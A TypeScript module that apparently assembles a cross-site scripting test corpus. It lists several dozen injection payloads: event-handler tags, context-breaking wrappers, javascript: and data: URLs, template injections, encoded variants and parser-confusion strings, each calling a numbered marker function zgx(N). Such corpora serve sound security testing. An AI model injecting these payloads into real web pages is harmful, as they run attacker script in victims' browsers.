/** Strings that run zgx(N) where one of them becomes markup, a script, a handler or an address. N stands for the payload's own number. */
const HANDLERS = [
  '<img src=x onerror=zgx(N)>', '<svg onload=zgx(N)>', '<video src=x onerror=zgx(N)>', '<audio src=x onerror=zgx(N)>', '<input autofocus onfocus=zgx(N)>', '<body onload=zgx(N)>',
  '<details open ontoggle=zgx(N)>', '<iframe onload=zgx(N)>', '<object onerror=zgx(N) data=x>', '<link rel=stylesheet href=x onerror=zgx(N)>', '<script>zgx(N)</script>',
  '<script src=data:,zgx(N)></script>', '<iframe src=javascript:parent.zgx(N)>', '<iframe srcdoc="<script>parent.zgx(N)</script>">', '<embed src=javascript:zgx(N)>',
  '<svg><script>zgx(N)</script></svg>', '<svg><animate onbegin=zgx(N) attributeName=x dur=1s>', '<math><mi xlink:href="javascript:zgx(N)">x</mi></math>',
  '<select autofocus onfocus=zgx(N)>', '<textarea autofocus onfocus=zgx(N)>', '<style onload=zgx(N)></style>', '<marquee onstart=zgx(N)>', '<a href=javascript:zgx(N)>x</a>',
  '<form action=javascript:zgx(N)><button>x</button></form>', '<button formaction=javascript:zgx(N)>x</button>', '<base href=javascript:zgx(N)//>',
]

/** What stands around markup where it is put: an attribute, a script, a style, a comment, a title, a template, another tag. */
const AROUND = [
  (p: string) => p,
  (p: string) => `">${p}`,
  (p: string) => `</title></textarea></style></script>-->${p}`,
]

/** What is no markup but runs in an address, an attribute, a script, a template or a parser that reads twice. */
const OTHERS = [
  'javascript:zgx(N)', 'JaVaScRiPt:zgx(N)', 'java\tscript:zgx(N)', ' javascript:zgx(N)', 'data:text/html,<script>parent.zgx(N)</script>', 'vbscript:zgx(N)',
  '" onmouseover=zgx(N) autofocus onfocus=zgx(N) x="', "' onmouseover=zgx(N) autofocus onfocus=zgx(N) x='", '"};zgx(N);//', "';zgx(N);//", '${zgx(N)}', '{{constructor.constructor("zgx(N)")()}}',
  '{@html "<img src=x onerror=zgx(N)>"}', '&lt;img src=x onerror=zgx(N)&gt;', '&#60;img src=x onerror=zgx(N)&#62;', '\\u003cimg src=x onerror=zgx(N)\\u003e', '%3Cimg%20src=x%20onerror=zgx(N)%3E',
  '<noscript><p title="</noscript><img src=x onerror=zgx(N)>">', '<svg><style><img src=x onerror=zgx(N)></style>', '<math><mtext><table><mglyph><style><img src=x onerror=zgx(N)>',
  '[x](javascript:zgx(N))', 'https://a.example/"onmouseover="zgx(N)', '//a.example/\\"><img src=x onerror=zgx(N)>', '<<script>zgx(N)//<</script>', '<img/src=`x`onerror=zgx(N)>',
]

/** All of them, numbered. */
export const PAYLOADS: readonly string[] = [...AROUND.flatMap((f) => HANDLERS.map(f)), ...OTHERS].map((p, n) => p.replaceAll('N)', `${n})`))
